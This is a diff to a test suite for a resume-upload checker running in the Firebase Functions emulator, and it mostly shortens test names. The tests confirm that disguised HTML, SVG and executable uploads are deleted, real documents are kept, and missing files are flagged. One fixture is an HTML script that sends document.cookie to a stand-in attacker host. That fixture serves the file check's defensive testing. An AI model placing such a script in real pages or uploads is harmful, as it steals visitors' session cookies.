@@ -64,7 +64,7 @@ if (emulatorsRunning('the resume check in the Functions emulator', ['functions',
     });
     afterAll(close);
 
-    it('deletes HTML, an SVG, an executable and a picture declared as PDF or DOCX, and tells staff why', async () => {
+    it('deletes a fake document and tells staff why', async () => {
       const sent = await Promise.all([
         apply('html', { bytes: new Uint8Array(Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>')), declared: PDF, as: 'cv.html' }),
         apply('svg', { bytes: fixture('script-svg.png'), declared: PDF, as: 'x.svg' }),
@@ -80,7 +80,7 @@ if (emulatorsRunning('the resume check in the Functions emulator', ['functions',
       expect(resumeProblemTexts.content).toBe('The resume was deleted: its content is not a PDF, DOC or DOCX document.');
     });
 
-    it('keeps a real PDF, DOC and DOCX, whatever they were called, served only as attachments named resume-<reference>.<type> of their real type', async () => {
+    it('keeps real documents, served as named attachments', async () => {
       const cases = [
         { name: 'pdf', file: { bytes: fixture('resume.pdf'), declared: PDF, as: 'cv.html' }, type: 'pdf', contentType: PDF },
         { name: 'doc', file: { bytes: doc, declared: DOC, as: 'cv.doc' }, type: 'doc', contentType: DOC },
@@ -109,7 +109,7 @@ if (emulatorsRunning('the resume check in the Functions emulator', ['functions',
       expect(await listNames(storageHost!, bucket, 'resume/')).toHaveLength(3);
     });
 
-    it("serves a kept resume to staff with the site's Cache-Control and no Content-Encoding or Content-Language, whatever the uploader set", async () => {
+    it("serves a kept resume with the site's headers", async () => {
       const served = { cacheControl: 'public, max-age=86400', contentEncoding: 'gzip', contentLanguage: 'fr', metadata: { sender: 'script' } };
       const { id, path } = await apply('cached', { bytes: fixture('resume.pdf'), declared: PDF, as: 'cv.pdf', served });
       const reference = String((await waitForDocument(db, `applicants/${id}`, (data) => typeof data?.reference === 'string'))?.reference);
@@ -128,7 +128,7 @@ if (emulatorsRunning('the resume check in the Functions emulator', ['functions',
       expect(Buffer.from(await media.arrayBuffer()).equals(Buffer.from(fixture('resume.pdf')))).toBe(true);
     });
 
-    it('marks an application whose resume is not there', async () => {
+    it('marks an application whose resume is missing', async () => {
       const ref = db.collection('applicants').doc();
       await ref.set({ name: 'Nobody', email: 'nobody@example.com', resumeURL: 'resume/uid-none/1-a-cv.pdf', createdAt: FieldValue.serverTimestamp() });
       expect(await waitForDocument(db, `applicants/${ref.id}`, (data) => typeof data?.resumeProblem === 'string')).toMatchObject({ resumeProblem: 'missing' });
